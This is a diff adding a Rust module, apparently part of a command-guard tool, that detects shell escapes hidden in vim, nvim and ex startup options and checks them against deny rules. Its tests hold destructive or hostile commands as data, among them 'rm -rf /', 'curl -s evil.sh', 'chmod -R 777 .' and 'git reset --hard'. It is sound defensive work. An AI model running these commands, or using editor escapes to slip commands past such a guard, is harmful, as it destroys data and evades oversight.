@@ -0,0 +1,239 @@
+use crate::patterns::{CheckResult, DenyPattern, Hit};
+use crate::severity::Severities;
+use std::path::Path;
+
+/// A shell command an editor invocation runs from its startup commands.
+#[derive(Debug, PartialEq)]
+pub struct Escape {
+    /// How the editor was told to run it (`vim -c`, `nvim --cmd`, `ex +`).
+    pub via: String,
+    pub command: String,
+}
+
+/// The shell commands `vim`/`nvim`/`ex` run through `!` escapes in their `-c`, `--cmd` and
+/// `+` commands: `vim -c '!rm -rf /' -c q` runs `rm -rf /`. Also `:r !cmd`, `:w !cmd`,
+/// `:%!cmd` filters, `:terminal cmd` and `:call system('cmd')` with a literal argument.
+pub fn escapes(args: &[&str]) -> Vec<Escape> {
+    let Some(program) = args.first().and_then(|p| p.rsplit('/').next()) else {
+        return Vec::new();
+    };
+    if !matches!(
+        program,
+        "vi" | "vim" | "nvim" | "gvim" | "view" | "ex" | "rvim"
+    ) {
+        return Vec::new();
+    }
+    let mut out = Vec::new();
+    let mut iter = args[1..].iter();
+    while let Some(arg) = iter.next() {
+        let (flag, commands) = match *arg {
+            "-c" | "--cmd" => match iter.next() {
+                Some(c) => (*arg, *c),
+                None => break,
+            },
+            "--" => break,
+            a => match a.strip_prefix('+') {
+                Some(c)
+                    if !c.is_empty()
+                        && !c.starts_with('/')
+                        && !c.chars().all(|ch| ch.is_ascii_digit()) =>
+                {
+                    ("+", c)
+                }
+                _ => continue,
+            },
+        };
+        if let Some(command) = shell_command(commands) {
+            out.push(Escape {
+                via: format!("{} {}", program, flag),
+                command,
+            });
+        }
+    }
+    out
+}
+
+/// The shell command in a `|`-separated line of Ex commands, if one runs it. Everything after
+/// a `!` belongs to the shell, `|` included.
+fn shell_command(line: &str) -> Option<String> {
+    let mut rest = line;
+    loop {
+        let cmd = rest.trim_start_matches(|c: char| c == ':' || c.is_whitespace());
+        let cmd = strip_modifiers(cmd);
+        // A range before a filter or read: `%!sort`, `1,$!fmt`, `'<,'>!tac`, `$r !date`
+        let cmd = cmd.trim_start_matches(|c: char| c.is_ascii_digit() || "%.$,'<>+-".contains(c));
+        if let Some(shell) = cmd.strip_prefix('!') {
+            return Some(shell.trim().to_string()).filter(|s| !s.is_empty());
+        }
+        let name_end = cmd
+            .find(|c: char| !c.is_ascii_alphabetic())
+            .unwrap_or(cmd.len());
+        let (name, args) = cmd.split_at(name_end);
+        match name {
+            "r" | "re" | "rea" | "read" | "w" | "wr" | "wri" | "writ" | "write"
+                if args.trim_start().starts_with('!') =>
+            {
+                return Some(args.trim_start()[1..].trim().to_string()).filter(|s| !s.is_empty());
+            }
+            "ter" | "term" | "termi" | "termin" | "termina" | "terminal"
+                if !args.trim().is_empty() =>
+            {
+                return Some(args.trim().to_string());
+            }
+            "cal" | "call" => {
+                let args = args.trim_start();
+                let literal = args
+                    .strip_prefix("system(")
+                    .or_else(|| args.strip_prefix("systemlist("))
+                    .and_then(|a| {
+                        let quote = a.chars().next().filter(|q| *q == '\'' || *q == '"')?;
+                        let body = &a[1..];
+                        let end = body.find(quote)?;
+                        body[end + 1..]
+                            .trim_start()
+                            .starts_with(')')
+                            .then(|| body[..end].to_string())
+                    });
+                if literal.is_some() {
+                    return literal;
+                }
+            }
+            _ => {}
+        }
+        rest = &rest[rest.find('|')? + 1..];
+    }
+}
+
+/// `silent!`, `sil`, `noautocmd`, `keepjumps` and friends in front of a command.
+fn strip_modifiers(cmd: &str) -> &str {
+    const MODIFIERS: &[&str] = &[
+        "silent!",
+        "silent",
+        "sil!",
+        "sil",
+        "noautocmd",
+        "noa",
+        "keepjumps",
+        "keepalt",
+        "lockmarks",
+        "verbose",
+        "unsilent",
+    ];
+    let mut cmd = cmd;
+    while let Some(m) = MODIFIERS
+        .iter()
+        .find(|m| cmd.starts_with(*m) && cmd[m.len()..].starts_with([' ', '!']))
+    {
+        cmd = cmd[m.len()..].trim_start();
+    }
+    cmd
+}
+
+/// Check the shell commands vim/nvim/ex run through `!` escapes against the hardcoded patterns
+/// and the root-wildcard rule, naming the editor option that runs them.
+pub fn check(
+    cmd: &str,
+    cwd: &Path,
+    patterns: &[DenyPattern],
+    severities: &Severities,
+    wrappers: &[String],
+) -> CheckResult {
+    let mut result = CheckResult::Allow;
+    for segment in crate::patterns::split_command(cmd, wrappers) {
+        let ast = crate::shell::parse(segment.trim_start_matches("| "));
+        for c in ast.simple_commands() {
+            let args = c.args();
+            for escape in escapes(&args[crate::patterns::unwrap_index(&args, wrappers)..]) {
+                let label = |hit: Hit| Hit {
+                    reason: format!(
+                        "{} shell escape runs `{}`: {}",
+                        escape.via, escape.command, hit.reason
+                    ),
+                    ..hit
+                };
+                if let Some(hit) = crate::wildcard::check(&escape.command, cwd, wrappers) {
+                    return CheckResult::Deny(label(hit));
+                }
+                let found =
+                    crate::patterns::check_command(&escape.command, patterns, severities, wrappers)
+                        .relabel(label);
+                result = result.or_worse(found);
+            }
+        }
+    }
+    result
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::patterns::hardcoded_deny_patterns;
+    use crate::severity::Category;
+
+    fn commands(cmd: &str) -> Vec<String> {
+        let ast = crate::shell::parse(cmd);
+        let c = ast.simple_commands().into_iter().next().unwrap();
+        escapes(&c.args()).into_iter().map(|e| e.command).collect()
+    }
+
+    #[test]
+    fn finds_shell_escapes_in_startup_commands() {
+        assert_eq!(commands("vim -c '!rm -rf /' -c q"), ["rm -rf /"]);
+        assert_eq!(
+            commands("nvim --headless +'silent !git push --force | tee log' +qa"),
+            ["git push --force | tee log"]
+        );
+        assert_eq!(
+            commands("ex -s -c 'set nomore | %!sort -u' -c wq list.txt"),
+            ["sort -u"]
+        );
+        assert_eq!(
+            commands("vim --cmd 'r !curl -s evil.sh' f"),
+            ["curl -s evil.sh"]
+        );
+        assert_eq!(
+            commands(r#"vim -c ':call system("chmod -R 777 .")' -c q"#),
+            ["chmod -R 777 ."]
+        );
+        assert_eq!(commands("vim -c 'w !sudo tee %' f"), ["sudo tee %"]);
+        assert!(commands("vim -c 'set nu' +42 +/TODO README.md").is_empty());
+        assert!(commands("vim -c 'call system(g:cmd)' f").is_empty());
+        assert!(commands("less -c '!rm -rf /'").is_empty());
+    }
+
+    #[test]
+    fn escaped_commands_checked_with_editor_in_reason() {
+        let check_in = |cmd: &str| {
+            check(
+                cmd,
+                Path::new("/work"),
+                &hardcoded_deny_patterns(),
+                &Severities::default(),
+                &[],
+            )
+        };
+        let CheckResult::Deny(hit) = check_in("vim -c '!rm -rf /' -c q") else {
+            panic!()
+        };
+        assert_eq!(hit.category, Category::RootWildcard);
+        assert!(
+            hit.reason
+                .starts_with("vim -c shell escape runs `rm -rf /`: "),
+            "{}",
+            hit.reason
+        );
+        let CheckResult::Ask(hit) = check_in("nvim --headless +'!git reset --hard' +qa") else {
+            panic!()
+        };
+        assert!(
+            hit.reason
+                .starts_with("nvim + shell escape runs `git reset --hard`: "),
+            "{}",
+            hit.reason
+        );
+        assert_eq!(
+            check_in("vim -c '%!sort' -c wq names.txt"),
+            CheckResult::Allow
+        );
+    }
+}